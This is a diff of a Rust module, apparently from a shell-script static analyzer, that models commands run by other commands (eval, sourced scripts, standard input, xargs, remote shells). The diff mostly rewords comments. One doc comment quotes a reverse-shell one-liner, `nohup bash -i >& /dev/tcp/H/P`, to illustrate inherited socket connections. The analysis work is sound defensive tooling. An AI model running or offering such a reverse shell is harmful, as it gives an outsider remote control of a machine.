@@ -1,4 +1,4 @@
-//! What a command runs in its turn, walked: other words, a script, its standard input, a file.
+//! Commands run by other commands: from words, from scripts, from standard input and from files.
 
 use std::rc::Rc;
 
@@ -21,25 +21,25 @@ use crate::stream::{CommandId, Content, Input, Value, Writer, add};
 use crate::translation::Translation;
 use crate::word::{Cause, Directory, Part, Source, Unknown, Word};
 
-/// What a word costs that another command runs, in steps.
+/// The cost of a word that another command runs, in steps.
 const WORD: usize = 16;
 
-/// How many bytes of statements are read in a step.
+/// How many bytes of a client's statements are read per step.
 const STATEMENTS: usize = 8;
 
-/// What a byte costs that is translated, in steps.
+/// The cost of a translated byte, in steps.
 const TRANSLATION: usize = 2;
 
 impl Frame<'_> {
-    /// Walks what a command runs; `None` if that is nothing.
+    /// Walks what a command runs; `None` if it runs nothing.
     pub(super) fn nested_commands(&mut self, made: &Made<'_>) -> Option<Flow> {
         let mut flow: Option<Flow> = None;
         let mut files = self.program_files(made);
         files.extend(self.copied_program(made));
         files.extend(self.same_as(made));
-        // The command is written down already: its words are those that were made.
+        // The command is recorded already, with the expanded words.
         let reads_statements = match &made.input.content {
-            // Many commands may have one input, and each of them reads it.
+            // Many commands may share one input, and each of them reads it.
             Content::Known(text)
                 if self.interpreter.commands.get(made.id.0).is_some_and(|it| reads_statements(&it.words)) =>
             {
@@ -60,7 +60,7 @@ impl Frame<'_> {
             .chain(by_environment(&command.words, &command.environment))
             .chain(files)
             .collect();
-        // Each variable is compared with those behind it.
+        // Each variable is compared with those after it.
         self.interpreter.spend(variables * variables / 8);
         for one in found {
             if !self.interpreter.spend(WORD * made.values.len()) {
@@ -92,7 +92,7 @@ impl Frame<'_> {
                 let arguments = self.arguments(made, inner, arguments, Zero::Program);
                 let mut words = made.values.iter().skip(1).filter_map(|value| value.word.known());
                 let input = match words.find(|word| descriptor_number(word) == Some(0)) {
-                    // By this name a file is read from its beginning.
+                    // Through this name, a file is read from its beginning.
                     Some(name) if made.reads_file() => {
                         Rc::new(self.read_with(&Word::text(name), &made.redirected.descriptors))
                     }
@@ -104,7 +104,7 @@ impl Frame<'_> {
                 self.note_script(made, inner, &setting, file);
                 let behind = made.values.iter().position(|value| value.word == *file).map_or(0, |at| at + 1);
                 let words = made.values.iter().skip(behind).map(|value| value.word.clone());
-                // In a shell of its own, `$0` is the file.
+                // In a process of its own, `$0` is the file.
                 let zero = (!inner.setting.in_this_shell).then(|| file.clone());
                 let kind = if zero.is_some() { Zero::First } else { Zero::Program };
                 let words: Vec<Word> = zero.into_iter().chain(words).collect();
@@ -135,7 +135,7 @@ impl Frame<'_> {
         setting
     }
 
-    /// What a command runs has its connections: `nohup bash -i >& /dev/tcp/H/P`.
+    /// A command's child inherits its network connections: `nohup bash -i >& /dev/tcp/H/P`.
     fn keep_connections(&self, made: &Made<'_>, setting: &mut Setting) {
         let Some(command) = self.interpreter.commands.get(made.id.0) else { return };
         for redirect in command.redirects.iter().filter(|redirect| redirect.target.socket().is_some()) {
@@ -145,15 +145,16 @@ impl Frame<'_> {
         }
     }
 
-    /// Runs words, in a process of their own or in this shell (`command`, `builtin`).
+    /// Runs words as a command, in a separate process or in this shell (`command`, `builtin`).
     fn argv(&mut self, made: &Made<'_>, inner: &Nested, setting: &Setting, words: &[Word]) -> Flow {
         let sources = made.sources();
         let values: Vec<Value> = words.iter().map(|word| self.inherit(&sources, made, word)).collect();
         let words = words.to_vec();
-        // In zsh, `command` runs programs alone.
+        // In zsh, `command` only runs programs.
         let is_program = made.name() == Some("command") && self.state.reading.has(Feature::OfZsh);
         if inner.setting.in_this_shell && inner.setting.environment.is_empty() && !is_program {
-            // These look past functions and aliases of the name; what `eval` runs finds the others.
+            // These builtins bypass functions and aliases of that name; other names, for example in an `eval`, still
+            // resolve to theirs.
             let name = words.first().and_then(Word::known).unwrap_or_default().to_owned();
             let (function, alias) = self.hide_names(&name);
             let outside = self.enter(made.redirected);
@@ -180,7 +181,7 @@ impl Frame<'_> {
         state.descriptors = made.redirected.inside();
         let is_listed = |part: &Part| matches!(part, Part::Unknown(unknown) if unknown.why.source == Source::Listed);
         if words.iter().flat_map(|word| &word.parts).any(is_listed) {
-            // `xargs` reads the words there.
+            // The words may come from `xargs`, which has its own standard input.
             state.descriptors.files.may_be_stream(0);
         }
         self.prepare(&mut state, inner, setting);
@@ -189,7 +190,7 @@ impl Frame<'_> {
         flow
     }
 
-    /// Takes away the function and the alias of a name.
+    /// Removes the function and the alias of a name, and returns them.
     fn hide_names(&mut self, name: &str) -> (Option<Rc<Node>>, Option<Alias>) {
         let State { functions, aliases, .. } = &mut *self.state;
         let function = functions.contains_key(name).then(|| Rc::make_mut(functions).remove(name)).flatten();
@@ -197,7 +198,7 @@ impl Frame<'_> {
         (function, alias)
     }
 
-    /// Writes a command down whose words are made, and goes on with it.
+    /// Records a command with expanded words, and walks what it does.
     pub(super) fn record(&mut self, words: Vec<Word>, values: &[Value]) -> Flow {
         if !self.interpreter.enter(ARGV_LEVELS) {
             let text: Vec<String> = words.iter().map(Word::shown).collect();
@@ -219,7 +220,7 @@ impl Frame<'_> {
         self.effects(&made)
     }
 
-    /// Runs a text that bash reads.
+    /// Runs a text as a shell script.
     pub(super) fn script_in(
         &mut self,
         made: &Made<'_>,
@@ -248,7 +249,7 @@ impl Frame<'_> {
             let outer = arguments.map(|given| std::mem::replace(&mut self.state.arguments, Rc::new(given)));
             let outside = self.enter(made.redirected);
             let flow = match is_file {
-                // `return` leaves it.
+                // A `return` leaves a sourced script.
                 true => {
                     let jumps = std::mem::take(&mut self.interpreter.jumps);
                     let flow = self.within(setting).script(&script);
@@ -280,7 +281,7 @@ impl Frame<'_> {
         self.outlived(flow, doubts)
     }
 
-    /// Returns a text in bash's language, and notes what of it was not read.
+    /// Translates a text into the Bourne shell's language, and records the parts that cannot be translated.
     pub(super) fn translated(&mut self, language: Language, text: String) -> String {
         let Translation { script, unread } = match language {
             Language::Bourne => return text,
@@ -295,7 +296,8 @@ impl Frame<'_> {
         script
     }
 
-    /// What is put into a script may hold commands of its own, if it comes from where anything may come from.
+    /// Records an unknown output as opaque if it is inserted into a script and its source may print anything: it may
+    /// contain commands.
     fn embedded(&mut self, setting: &Setting, text: &Value) {
         let unknown = text.word.parts.iter().find_map(|part| match part {
             Part::Unknown(unknown) if unknown.why.cause == Cause::Output => Some(unknown.why.word.clone()),
@@ -313,7 +315,7 @@ impl Frame<'_> {
         }
     }
 
-    /// Runs what comes in a stream.
+    /// Runs an input as a script.
     fn stream(
         &mut self,
         made: &Made<'_>,
@@ -331,7 +333,7 @@ impl Frame<'_> {
             Content::Unsaid => Flow::nothing(),
             Content::Known(text) => {
                 if matches!(inner.what, What::Input(_)) {
-                    // What it reads follows the script.
+                    // The rest of its standard input, after the script, is not known.
                     setting.input = Rc::default();
                 }
                 self.script_in(made, inner, setting, text, arguments)
@@ -355,7 +357,7 @@ impl Frame<'_> {
         }
     }
 
-    /// Returns what a command gets that reads a file.
+    /// Returns the content of a file that a command reads.
     pub(super) fn read_here(&mut self, made: &Made<'_>, file: &Word) -> Input {
         match file.known() {
             Some("-") => (*made.input).clone(),
@@ -364,12 +366,13 @@ impl Frame<'_> {
         }
     }
 
-    /// A script file that nothing is known of but its name.
+    /// Records a script file of which only the name is known.
     fn unseen(&mut self, setting: &Setting, file: &Word) {
         let shown = file.shown();
         let writers = self.possible_writers(file);
         if !writers.is_empty() {
-            // It may be one that the text wrote: unknown to whoever asks about its writers and about who runs it.
+            // It may be a file that the text wrote: the record names its possible writers and the command that runs it,
+            // so that rules about either see it.
             let names = writers
                 .iter()
                 .filter_map(|writer| writer.command())
@@ -397,11 +400,11 @@ impl Frame<'_> {
         };
         self.code_from(made.id, &from);
         if made.name().and_then(|name| language(base_name(name))) == Some(programs::Language::Awk) {
-            // What it runs is put together from what it reads.
+            // An Awk program may build the commands that it runs from its input.
             self.code_from(made.id, &made.input.from);
         }
         match content {
-            // What a program's own file holds is as little seen as what the program does.
+            // The content of a program's own file is as unknown as the program itself.
             Content::Unsaid => self.note_unread(made),
             Content::File(file) => {
                 if *code == Code::Input {
@@ -431,7 +434,7 @@ impl Frame<'_> {
         self.interpreter.spend(from.len());
     }
 
-    /// Returns `$0`, `$1`, … of what runs; `None` where those of this shell stay (`eval`).
+    /// Returns `$0`, `$1`, … of the script; `None` if it keeps those of this shell (`eval`).
     fn arguments(&mut self, made: &Made<'_>, inner: &Nested, words: &[Word], zero: Zero) -> Option<Arguments> {
         if inner.setting.in_this_shell && words.is_empty() {
             return None;
@@ -446,10 +449,10 @@ impl Frame<'_> {
         Some(Arguments::Known(zero, values.collect()))
     }
 
-    /// Makes what differs in the process that runs something.
+    /// Applies the settings of the process that runs the code.
     fn prepare(&mut self, state: &mut State, inner: &Nested, setting: &Setting) {
         if setting.scope != self.setting.scope {
-            // Another machine's shell knows nothing of this one.
+            // A shell on another machine has none of this one's state.
             let words = setting.via.last().and_then(|id| self.interpreter.name(*id)).unwrap_or_default().to_owned();
             state.variables = Rc::default();
             state.home = None;
@@ -486,30 +489,30 @@ impl Frame<'_> {
     }
 }
 
-/// Returns the word that may set variables for what runs: `env $X make`, `$WRAPPER make`.
+/// Returns the unknown word that may set variables for the code: `env $X make`, `$WRAPPER make`.
 fn hiding(inner: &Nested) -> Option<Unknown> {
     let may_set = |why: &&Unknown| !matches!(why.cause, Cause::Option | Cause::Earlier | Cause::Alias | Cause::Glob);
     inner.doubt.as_ref().filter(may_set).cloned()
 }
 
-/// What `$0` is.
+/// The value of `$0`.
 #[derive(Clone, Copy, PartialEq, Eq)]
 enum Zero {
-    /// The first word behind the script.
+    /// The first word after the script.
     First,
     /// The name of the shell.
     Program,
 }
 
 impl Made<'_> {
-    /// Returns the words that hold the output of commands.
+    /// Returns the words that contain the output of commands.
     fn sources(&self) -> Vec<&Value> {
         self.values.iter().filter(|value| !value.from.is_empty()).collect()
     }
 }
 
 impl Frame<'_> {
-    /// Finds out whose output is in a word that was made of the words of a command.
+    /// Determines whose output is in a word that was built from the words of a command.
     fn inherit(&mut self, sources: &[&Value], made: &Made<'_>, word: &Word) -> Value {
         let mut value = Value { word: word.clone(), from: Vec::new() };
         let (known, own) = (word.literal(), unknown_parts(word));
@@ -532,7 +535,7 @@ impl Frame<'_> {
     }
 }
 
-/// Returns why parts of a word are not known.
+/// Returns the reasons of the unknown parts of a word.
 fn unknown_parts(word: &Word) -> Vec<&Unknown> {
     let unknowns = word.parts.iter().filter_map(|part| match part {
         Part::Unknown(unknown) => unknown.matched().is_none().then_some(&unknown.why),
